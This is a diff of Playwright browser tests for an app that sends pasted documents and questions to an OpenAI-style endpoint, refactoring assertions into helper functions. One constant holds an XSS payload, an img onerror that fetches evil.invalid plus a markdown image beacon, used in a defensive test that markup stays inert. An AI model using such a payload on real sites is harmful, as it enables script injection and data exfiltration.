@@ -4,7 +4,7 @@ from urllib.parse import urlsplit
 
 from playwright.sync_api import Page, expect
 
-from tests.browser.actions import look_at, paste, run_button, settled, use_endpoint
+from tests.browser.actions import ask, look_at, paste, run_button, sentence, settled, use_endpoint
 from tests.fake_openai import Answer, FakeOpenAI, Silence
 
 EVIL = "<img src=x onerror=\"fetch('http://evil.invalid/')\"> ![seen](http://evil.invalid/a.png)"
@@ -12,12 +12,12 @@ EVIL = "<img src=x onerror=\"fetch('http://evil.invalid/')\"> ![seen](http://evi
 
 def test_from_paste_to_every_call(page: Page):
     paste(page, "The pump failed at noon.\n\nA valve was closed by hand.\n\nIt rained.")
-    expect(page.get_by_text("compact would make 1 call")).to_be_visible()
-    question = page.get_by_role("textbox", name="Question")
-    question.fill("What failed?")
-    question.press("Control+Enter")
-    expect(page.get_by_text("compact made 1 call")).to_be_visible()
-    expect(page.locator(".answer")).to_contain_text("The pump failed at noon.")
+    expect(sentence(page, "compact would make 1 call")).to_be_visible()
+    expect(run_button(page)).to_be_disabled()
+    ask(page, "What failed?")
+    run_button(page).click()
+    expect(sentence(page, "compact made 1 call")).to_be_visible()
+    expect(page.locator(".tagged")).to_contain_text("The pump failed at noon")
     look_at(page, "Calls")
     prompt = page.locator(".prompt")
     expect(prompt.locator(".s-query")).to_have_text("What failed?")
@@ -28,21 +28,21 @@ def test_stop_keeps_what_arrived(page: Page):
     with FakeOpenAI(Answer("the first answer"), Silence()) as server:
         use_endpoint(page, server)
         run_button(page).click()
-        expect(page.get_by_text("1 of 12 calls answered")).to_be_visible()
+        expect(sentence(page, "1 of 12 calls answered")).to_be_visible()
         page.get_by_role("button", name="Stop").click()
         expect(page.get_by_text("1 answer was kept")).to_be_visible()
         expect(run_button(page)).to_be_visible()
         look_at(page, "Calls")
-        expect(page.get_by_text("the first answer")).to_be_visible()
+        expect(page.locator(".answer")).to_have_text("the first answer")
 
 
 def test_a_refresh_keeps_the_run(page: Page):
     with FakeOpenAI(Answer("the first answer"), Silence()) as server:
         use_endpoint(page, server)
         run_button(page).click()
-        expect(page.get_by_text("1 of 12 calls answered")).to_be_visible()
+        expect(sentence(page, "1 of 12 calls answered")).to_be_visible()
         page.reload()
-        expect(page.get_by_text("1 of 12 calls answered")).to_be_visible()
+        expect(sentence(page, "1 of 12 calls answered")).to_be_visible()
         expect(page.get_by_text("the first answer")).to_be_visible()
         page.get_by_role("button", name="Stop").click()
         expect(page.get_by_text("You stopped this run.")).to_be_visible()
@@ -50,10 +50,9 @@ def test_a_refresh_keeps_the_run(page: Page):
 
 def test_pasted_markup_is_text_and_nothing_leaves_the_machine(page: Page, requests: list[str]):
     paste(page, EVIL)
-    question = page.get_by_role("textbox", name="Question")
-    question.fill(EVIL)
-    question.press("Control+Enter")
-    expect(page.get_by_text("compact made 1 call")).to_be_visible()
+    ask(page, EVIL)
+    run_button(page).click()
+    expect(sentence(page, "compact made 1 call")).to_be_visible()
     for view in ("Calls", "Flow", "Coverage", "Data", "Plan", "Answer"):
         look_at(page, view)
     look_at(page, "Calls")
@@ -68,7 +67,7 @@ def test_a_narrow_page_stacks_and_keeps_run_in_reach(page: Page):
     assert page.evaluate("document.documentElement.scrollWidth") == 800
     expect(run_button(page)).to_be_in_viewport()
     run_button(page).click()
-    expect(page.get_by_text("compact made 2 calls")).to_be_visible()
+    expect(sentence(page, "compact made 2 calls")).to_be_visible()
     assert page.evaluate("document.documentElement.scrollWidth") == 800
 
 
@@ -88,5 +87,5 @@ def test_a_key_that_is_left_with_tab_is_used(page: Page):
         page.get_by_role("button", name="Test", exact=True).click()
         expect(page.get_by_text("It answers.")).to_be_visible()
         run_button(page).click()
-        expect(page.get_by_text("refine made 12 calls")).to_be_visible()
+        expect(sentence(page, "refine made 12 calls")).to_be_visible()
     assert {request.authorization for request in server.requests} == {"Bearer sk-typed-on"}
